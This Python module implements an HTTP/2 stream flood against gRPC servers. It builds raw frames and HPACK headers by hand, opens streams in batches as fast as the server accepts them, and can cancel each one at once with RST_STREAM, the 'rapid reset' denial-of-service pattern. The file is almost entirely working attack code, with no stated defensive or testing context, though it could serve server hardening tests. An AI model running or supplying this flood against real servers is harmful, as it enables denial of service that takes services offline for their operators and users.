"""Floods of HTTP/2 streams by hand-made frames (RFC 9113), which no client library would send."""

import asyncio
import struct
import time

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
_HEADERS, _RST_STREAM, _END_HEADERS, _CANCEL = 1, 3, 4, 8
_STREAMS_PER_WRITE = 50


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _text(text: str) -> bytes:
    return bytes((len(text),)) + text.encode()


def _header_block(method: str) -> bytes:
    """Return the headers of a gRPC call in HPACK (RFC 7541): indexed where static, literal elsewhere."""
    post, http, path, authority = b"\x83", b"\x86", b"\x04" + _text(method), b"\x01" + _text("flood")
    literals = (("te", "trailers"), ("content-type", "application/grpc"))
    return post + http + path + authority + b"".join(b"\x00" + _text(n) + _text(v) for n, v in literals)


async def flood(address: str, method: str, seconds: float, *, reset: bool) -> int:
    """Open streams on one connection as fast as the server reads, and return their number.

    Args:
        address: host:port.
        method: `/package.Service/Method`.
        seconds: duration of the flood; the server may end it earlier by closing the connection.
        reset: reset each stream at once; otherwise leave it without a request.
    """
    host, port = address.rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    draining = asyncio.create_task(_discard(reader))
    block, count, until = _header_block(method), 0, time.monotonic() + seconds
    try:
        writer.write(_PREFACE)
        while time.monotonic() < until:
            frames = bytearray()
            for stream in range(2 * count + 1, 2 * (count + _STREAMS_PER_WRITE) + 1, 2):
                frames += _frame(_HEADERS, _END_HEADERS, stream, block)
                if reset:
                    frames += _frame(_RST_STREAM, 0, stream, struct.pack(">I", _CANCEL))
            writer.write(bytes(frames))
            await writer.drain()
            count += _STREAMS_PER_WRITE
    except ConnectionError:
        pass
    finally:
        draining.cancel()
        writer.close()
    return count


async def _discard(reader: asyncio.StreamReader) -> None:
    while await reader.read(1 << 16):
        pass
